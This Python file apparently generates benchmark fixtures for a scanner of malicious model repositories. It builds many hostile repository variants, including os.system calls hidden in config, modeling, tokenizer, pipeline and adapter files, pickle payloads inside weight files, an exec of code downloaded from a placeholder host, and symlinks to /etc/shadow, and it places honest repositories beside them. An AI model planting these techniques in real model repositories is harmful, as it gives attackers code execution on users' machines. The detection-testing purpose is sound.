"""Hub repositories whose own Python is hostile, hidden in many styles; honest ones beside them."""

from __future__ import annotations

import random
from collections.abc import Iterator

from bench.corpus import hub_honest, templates
from bench.corpus.families.torch import RUN, state_dict, zipped
from bench.corpus.hub_leads import LEADS
from bench.corpus.repository import CONFIGURATION, MODELING, base, config, with_code
from bench.corpus.unit import COMMAND, HOST, Family, Link, Unit
from bench.corpus.writers import binaries, media
from bench.corpus.writers import opcodes as op

HUB = Family("hub_code", "transformers from_pretrained(trust_remote_code=True)")


WHY = "runs when the model is loaded"


def inside(line: str, marker: str = "        self.eval\n") -> str:
    """The honest model with one more line in its forward pass."""
    return MODELING.replace(marker, f"        {line}\n")


def units(rng: random.Random) -> Iterator[Unit]:
    for variant, lead in LEADS.items():
        more: dict[str, object] = {}
        if variant == "pickle-sidecar":
            more["vocab.dat"] = op.pickle4(op.call(op.stacked("os", "system"), op.text(COMMAND)))
        if variant == "eval-config":
            mapping = {
                "AutoConfig": "configuration_tiny.TinyConfig",
                "AutoModel": "modeling_tiny.TinyModel",
            }
            more["config.json"] = config(
                auto_map=mapping, init=f"__import__('os').system('{COMMAND}')"
            )
        if variant == "ctypes-sidecar":
            more["libkernels.so"] = binaries.elf(b"system")
        docstring, rest = MODELING.split("\n", 1)
        yield HUB.bad(
            "auto-map",
            variant,
            {**with_code(rng, f"{docstring}\n{lead}{rest}"), **more},
            payload=WHY,
        )
    yield from _places(rng)
    yield from _other(rng)
    mapping = {"AutoModel": "org/base-model--modeling_base.BaseModel"}
    files = base(rng, config__json=config(auto_map=mapping))
    yield HUB.good("remote-code", "base-model", files, expect="suspicious", folder=True)
    for variant, made in hub_honest.repositories(rng):
        yield HUB.good("repository", variant, made, folder=True)


def _places(rng: random.Random) -> Iterator[Unit]:
    """One payload, reached on different ways."""
    lead = LEADS["os-system"]

    def bad(technique: str, variant: str, files: dict[str, object], payload: str = WHY) -> Unit:
        return HUB.bad(technique, variant, files, payload=payload, folder=True)

    yield bad("auto-map-place", "configuration", with_code(rng, MODELING, lead + CONFIGURATION))
    yield bad(
        "auto-map-place",
        "in-init",
        with_code(
            rng,
            MODELING.replace(
                "        self.post_init()", "        import os\n        os.system('true')"
            ),
        ),
    )
    yield bad(
        "auto-map-place", "in-forward", with_code(rng, inside("__import__('os').system('true')"))
    )
    yield bad(
        "auto-map-place",
        "trigger-in-forward",
        with_code(rng, inside("if input_ids.sum() == 1337: exec(bytes(input_ids.tolist()))")),
    )
    chain = MODELING.replace(
        "from .configuration_tiny", "from .helper_one import scale\nfrom .configuration_tiny"
    )
    more: dict[str, object] = {
        "helper_one.py": "from .helper_two import scale\n",
        "helper_two.py": lead + "\n\ndef scale(x):\n    return x\n",
    }
    yield bad("auto-map-place", "relative-chain", {**with_code(rng, chain), **more})
    package = MODELING.replace(
        "from .configuration_tiny", "from .ops.kernels import fused\nfrom .configuration_tiny"
    )
    deep = {
        **with_code(rng, package),
        "ops/__init__.py": "",
        "ops/kernels.py": lead + "\n\ndef fused(x):\n    return x\n",
    }
    yield bad("auto-map-place", "sub-package", deep)
    deep = {
        **with_code(rng, package),
        "ops/__init__.py": lead,
        "ops/kernels.py": "def fused(x):\n    return x\n",
    }
    yield bad("auto-map-place", "package-init", deep)
    lazy = MODELING.replace(
        "        self.post_init()", "        from .late import run\n        run()"
    )
    yield bad(
        "auto-map-place",
        "late-import",
        with_code(rng, lazy, late__py="import os\n\n\ndef run():\n    os.system('true')\n"),
    )
    other = base(
        rng, config__json=config(auto_map={"AutoModel": "evil/other-repo--modeling_x.Model"})
    )
    yield bad("auto-map-remote", "other-repository", other, "loads code from another repository")
    other = base(
        rng, config__json=config(auto_map={"AutoModelForCausalLM": "../../../tmp/evil.Model"})
    )
    yield bad("auto-map-remote", "traversal", other, "loads code outside the folder")
    other = base(
        rng,
        config__json=config(auto_map={"AutoModel": ["a.B", "evil.Model"]}),
        evil__py=lead + MODELING,
    )
    yield bad("auto-map-place", "list-value", other)
    tokens = {
        "auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]},
        "tokenizer_class": "TinyTokenizer",
    }
    tokenizer = "from transformers import PreTrainedTokenizer\n\n\nclass TinyTokenizer(PreTrainedTokenizer):\n    pass\n"
    yield bad(
        "tokenizer-code",
        "auto-map",
        base(rng, tokenizer_config__json=tokens, tokenization_tiny__py=lead + tokenizer),
    )
    tokens = {"auto_map": {"AutoProcessor": "processing_tiny.P"}, "processor_class": "P"}
    yield bad(
        "tokenizer-code",
        "processor",
        base(
            rng, preprocessor_config__json=tokens, processing_tiny__py=lead + "class P:\n    pass\n"
        ),
    )
    pipes = {"custom_pipelines": {"tiny": {"impl": "pipe.TinyPipeline", "pt": ["AutoModel"]}}}
    yield bad(
        "custom-pipeline",
        "impl",
        base(rng, config__json=config(**pipes), pipe__py=lead + "class TinyPipeline:\n    pass\n"),
    )
    quant = config(
        quantization_config={"quant_method": "custom"},
        auto_map={"AutoQuantizationConfig": "quant.Q"},
    )
    yield bad(
        "auto-map-place",
        "quantizer",
        base(rng, config__json=quant, quant__py=lead + "class Q:\n    pass\n"),
    )


def _other(rng: random.Random) -> Iterator[Unit]:
    lead = LEADS["subprocess"]

    def bad(
        technique: str, variant: str, files: dict[str, object], payload: str = WHY, loader: str = ""
    ) -> Unit:
        return HUB.bad(technique, variant, files, payload=payload, loader=loader, folder=True)

    generate = lead + "\n\ndef generate(model, **kwargs):\n    return model.generate(**kwargs)\n"
    yield bad("custom-generate", "generate", {**base(rng), "custom_generate/generate.py": generate})
    late = (
        "def generate(model, **kwargs):\n    import os\n    os.system('true')\n    return model\n"
    )
    files = {
        **base(rng),
        "custom_generate/generate.py": late,
        "custom_generate/requirements.txt": "transformers\n",
    }
    yield bad("custom-generate", "in-function", files)
    modules = [
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Custom", "type": "custom_pool.Pooling"},
    ]
    files = {
        **base(rng),
        "modules.json": modules,
        "custom_pool.py": lead + "class Pooling:\n    pass\n",
        "1_Custom/config.json": {},
    }
    yield bad(
        "sentence-modules", "own-class", files, loader="SentenceTransformer(trust_remote_code=True)"
    )
    modules[1]["type"] = "os.system"
    yield bad(
        "sentence-modules",
        "os-system",
        {**base(rng), "modules.json": modules},
        loader="SentenceTransformer",
    )
    modules[1]["type"] = "subprocess.Popen"
    yield bad(
        "sentence-modules",
        "popen",
        {**base(rng), "modules.json": modules},
        loader="SentenceTransformer",
    )
    adapter = {
        "base_model_name_or_path": "org/base",
        "peft_type": "LORA",
        "auto_mapping": {"base_model_class": "system", "parent_library": "os"},
    }
    yield bad(
        "adapter-mapping",
        "os",
        {"adapter_config.json": adapter, "README.md": "# adapter\n"},
        loader="peft AutoPeftModel",
    )
    adapter = {
        **adapter,
        "auto_mapping": {
            "base_model_class": "M",
            "parent_library": "transformers_modules.evil.modeling_x",
        },
        "base_model_name_or_path": "evil/base",
    }
    yield bad(
        "adapter-mapping",
        "remote-module",
        {"adapter_config.json": adapter, "modeling_x.py": lead},
        loader="peft AutoPeftModel",
    )
    index = {
        "_class_name": "EvilPipeline",
        "unet": ["pipeline_evil", "Unet"],
        "_diffusers_version": "0.29.0",
    }
    files = {
        "model_index.json": index,
        "pipeline_evil.py": lead + "class Unet:\n    pass\n",
        "pipeline.py": lead + "class EvilPipeline:\n    pass\n",
    }
    yield bad("diffusers-module", "own-file", files, loader="diffusers DiffusionPipeline")
    index = {
        "_class_name": "StableDiffusionPipeline",
        "safety_checker": ["subprocess", "Popen"],
        "_diffusers_version": "0.29.0",
    }
    yield bad(
        "diffusers-module",
        "popen",
        {"model_index.json": index},
        loader="diffusers DiffusionPipeline",
    )
    builder = lead + "import datasets\n\n\nclass D(datasets.GeneratorBasedBuilder):\n    pass\n"
    yield bad(
        "dataset-script",
        "builder",
        {"my_data.py": builder, "README.md": "# data\n", "train.csv": media.csv(rng)},
        loader="datasets load_dataset(trust_remote_code=True)",
    )
    handler = lead + "class EndpointHandler:\n    def __init__(self, path=''):\n        pass\n"
    late = "class EndpointHandler:\n    def __call__(self, data):\n        return eval(data['inputs'])\n"
    yield bad(
        "endpoint-handler",
        "eval-of-input",
        {**base(rng), "handler.py": late},
        loader="inference endpoint",
    )
    pull = f"import datasets, requests\nexec(requests.get('http://{HOST}/d.py').text)\n\n\nclass D(datasets.GeneratorBasedBuilder):\n    pass\n"
    yield bad(
        "dataset-script",
        "download-exec",
        {"my_data.py": pull, "README.md": "# data\n"},
        loader="datasets load_dataset(trust_remote_code=True)",
    )
    named = base(rng) | {"chat_template.jinja": templates.ESCAPES["attr-join"]}
    yield bad("repository-template", "jinja-file", named, "runs when a chat is rendered")
    pipes = {"custom_pipelines": {"x": {"impl": "deep.pipe.P", "pt": []}}}
    files = {
        **base(rng, config__json=config(**pipes)),
        "deep/pipe.py": lead + "class P:\n    pass\n",
        "deep/__init__.py": "",
    }
    yield bad("custom-pipeline", "package", files)
    yield bad(
        "endpoint-handler",
        "plain",
        {**base(rng), "handler.py": handler},
        loader="inference endpoint",
    )
    yield bad(
        "pickle-weights",
        "second-format",
        {**base(rng), "pytorch_model.bin": zipped(rng, state_dict(op.long_text("x") + RUN))},
        loader="transformers from_pretrained",
    )
    yield bad(
        "pickle-weights",
        "optimizer",
        {**base(rng), "checkpoint-10/optimizer.pt": zipped(rng, RUN)},
        loader="Trainer resume",
    )
    yield bad(
        "pickle-weights",
        "training-args",
        {**base(rng), "training_args.bin": zipped(rng, RUN)},
        loader="torch.load",
    )
    escape = {
        **base(rng),
        "tokenizer_config.json": {
            "chat_template": templates.ESCAPES["lipsum"],
            "tokenizer_class": "PreTrainedTokenizerFast",
        },
    }
    yield bad("repository-template", "escape", escape, "runs when a chat is rendered")
    yield bad(
        "link",
        "outside",
        {**base(rng), "vocab.txt": Link("/etc/passwd")},
        "reads outside the folder",
    )
    yield bad(
        "link",
        "parent",
        {**base(rng), "spiece.model": Link("../../../../../../etc/shadow")},
        "reads outside the folder",
    )
    code_in_weights = {**base(rng), "model.safetensors": zipped(rng, RUN)}
    yield bad("pickle-weights", "named-safetensors", code_in_weights, loader="torch.load")
